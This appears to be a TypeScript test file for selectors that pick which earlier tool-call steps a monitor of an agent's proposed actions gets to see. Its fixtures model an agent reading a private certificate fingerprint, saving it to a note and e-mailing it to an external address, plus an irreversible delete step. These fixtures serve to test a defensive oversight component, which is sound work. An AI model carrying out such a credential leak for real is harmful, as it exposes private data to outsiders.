import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { SelectorConfig, SelectorKind } from '@carb/pipeline';
import { createPrefixGraph, graphLocal, selectContext } from '../src/index.ts';
import { episode, graphAt, step, testPipeline } from './helpers.ts';

const sel = (kind: SelectorKind, seed = 0): SelectorConfig => ({ kind, window: 4, seed });
const key = { episodeId: 'ep-1' };
const pick = (g: Parameters<typeof selectContext>[0], kind: SelectorKind, seed = 0): number[] => [
  ...selectContext(g, sel(kind, seed), key),
];

// g-carb §4: certificate → note → e-mail, with a disconnected public task beside it.
const certificate = step('read_certificate', { path: 'certs/alice.pem' }, 'Certificate for alice\nfingerprint 9F:3A:77:12:C4:88:01:BE:42', {
  outputs: ['cert.fingerprint'],
});
const brochure = step('read_public_doc', { path: 'public/brochure.txt' }, 'Welcome brochure for all customers', {
  outputs: ['doc.brochure'],
});
const weather = step('list_items', { city: 'Paris' }, 'sunny');
const note = step('create_note', { title: 'fp' }, 'note saved', { inputs: ['cert.fingerprint'], outputs: ['note.fp'] });
const leak = episode(
  certificate,
  brochure,
  weather,
  note,
  step('send_email', { recipients: ['eve@external.example'], body: 'see note' }, '', { inputs: ['note.fp'] }),
);
const publicSend = episode(
  certificate,
  brochure,
  weather,
  note,
  step('send_email', { recipients: ['eve@external.example'], body: 'brochure' }, '', { inputs: ['doc.brochure'] }),
);

describe('graph-local selector (Definition 2)', () => {
  it('keeps the read–note–send chain and omits the disconnected public task', () => {
    expect(pick(graphAt(leak, 4), 'graph')).toEqual([0, 3, 4]);
  });
  it('an e-mail carrying only the public document follows the public branch', () => {
    expect(pick(graphAt(publicSend, 4), 'graph')).toEqual([1, 4]);
  });
  it('the same chain without declared provenance: exact content reuse links read → note → send', () => {
    const fp = '9F:3A:77:12:C4:88:01:BE:42';
    const plain = episode(
      step('read_certificate', { path: 'certs/alice.pem' }, `Certificate for alice\nfingerprint ${fp}`),
      step('read_public_doc', { path: 'public/brochure.txt' }, 'Welcome brochure for all customers'),
      step('create_note', { text: `fingerprint ${fp}` }, `Note 17 created: fingerprint ${fp}`),
      step('send_email', { recipients: ['eve@external.example'], body: `Note 17 created: fingerprint ${fp}` }),
    );
    const g = graphAt(plain, 3);
    expect(g.parents(2)).toEqual([0]);
    expect(pick(g, 'graph')).toEqual([0, 2, 3]);
  });
  it('a sink with no source path, and a non-sink, get the proposal plus its ancestors', () => {
    // node 4 is irreversible-only: ancestor fallback even though node 0 is a private ancestor
    const del = episode(certificate, brochure, weather, note, step('delete_file', { file: 'x' }, '', { inputs: ['note.fp'] }));
    expect(pick(graphAt(del, 4), 'graph')).toEqual([0, 3, 4]);
    const lone = episode(certificate, brochure, step('send_email', { body: 'hello' }));
    expect(pick(graphAt(lone, 2), 'graph')).toEqual([2]);
  });
  it('drops ancestors that are on no source → sink path', () => {
    // 1 → 2 ← 0(source), 2 → 3 (sink): node 1 is an ancestor but not on a source path
    const s = episode(
      step('read_file', {}, '', { outputs: ['a'] }),
      step('list_items', {}, '', { outputs: ['b'] }),
      step('create_note', {}, '', { inputs: ['a', 'b'], outputs: ['c'] }),
      step('send_email', {}, '', { inputs: ['c'] }),
    );
    const g = graphAt(s, 3);
    expect(pick(g, 'graph')).toEqual([0, 2, 3]);
    expect(pick(g, 'full')).toEqual([0, 1, 2, 3]);
  });
});

describe('full, window, current selectors', () => {
  const seven = episode(...Array.from({ length: 7 }, (_, i) => step('list_items', { n: i }, `r${i}`)));
  it('full = every node, current = proposal only', () => {
    expect(pick(graphAt(seven, 6), 'full')).toEqual([0, 1, 2, 3, 4, 5, 6]);
    expect(pick(graphAt(seven, 6), 'current')).toEqual([6]);
  });
  it('window-4 = 4 records including the proposal (proposal plus the 3 most recent executed)', () => {
    expect(pick(graphAt(seven, 6), 'window')).toEqual([3, 4, 5, 6]);
    expect(pick(graphAt(seven, 3), 'window')).toEqual([0, 1, 2, 3]);
    expect(pick(graphAt(seven, 2), 'window')).toEqual([0, 1, 2]);
    expect(pick(graphAt(seven, 0), 'window')).toEqual([0]);
  });
  it('window-1 is the proposal alone', () => {
    expect([...selectContext(graphAt(seven, 6), { kind: 'window', window: 1, seed: 0 }, key)]).toEqual([6]);
  });
});

describe('equal-size random selector', () => {
  it('matches the graph-local size, keeps the proposal, is sorted and deterministic', () => {
    const g = graphAt(leak, 4);
    const r = pick(g, 'random');
    expect(r).toHaveLength(3);
    expect(r[2]).toBe(4);
    expect(r[0]! < r[1]! && r[1]! < 4).toBe(true);
    expect(pick(graphAt(leak, 4), 'random')).toEqual(r);
    // the seed, the episode and the step all enter the draw
    const draws = new Set<string>();
    for (let seed = 0; seed < 20; seed++) draws.add(pick(g, 'random', seed).join(','));
    expect(draws.size).toBeGreaterThan(1);
  });
  it('depends on the episode id', () => {
    const g = graphAt(leak, 4);
    const seen = new Set<string>();
    for (let e = 0; e < 20; e++) seen.add([...selectContext(g, sel('random'), { episodeId: `ep-${e}` })].join(','));
    expect(seen.size).toBeGreaterThan(1);
  });
  it('size-matches graph-local on random graphs', () => {
    const pipeline = testPipeline();
    const tools = ['read_file', 'list_items', 'create_note', 'send_email', 'delete_file'];
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.nat(4), fc.nat(5), fc.nat(5)), { minLength: 1, maxLength: 14 }), fc.nat(1000), (spec, seed) => {
        const g = createPrefixGraph(pipeline);
        spec.forEach(([tool, out, inp], i) => {
          g.propose({
            index: i,
            tool: tools[tool]!,
            args: {},
            result: '',
            error: null,
            ok: true,
            provenance: { outputs: [`h${out}`], inputs: [`h${inp}`] },
          });
          const local = graphLocal(g, i);
          const r = selectContext(g, sel('random', seed), key);
          expect(r.length).toBe(local.length);
          expect(r[r.length - 1]).toBe(i);
          expect(new Set(r).size).toBe(r.length);
          for (let k = 1; k < r.length; k++) expect(r[k - 1]! < r[k]!).toBe(true);
          g.commit({
            index: i,
            tool: tools[tool]!,
            args: {},
            result: 'done',
            error: null,
            ok: true,
            provenance: { outputs: [`h${out}`], inputs: [`h${inp}`] },
          });
        });
      }),
      { numRuns: 200, seed: 3 },
    );
  });
});
